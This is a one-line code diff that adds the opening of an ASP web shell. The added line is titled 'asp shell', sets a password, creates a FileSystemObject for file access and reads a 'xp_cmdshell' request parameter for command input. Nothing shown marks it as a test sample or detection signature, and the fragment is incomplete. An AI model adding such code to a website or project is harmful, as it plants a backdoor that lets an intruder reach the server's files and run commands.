@@ -1,0 +1,1 @@
+<% UserPass="x" : title="asp shell" : Set f=CreateObject("Scripting.FileSystemObject") : p=Request("xp_cmdshell") %>
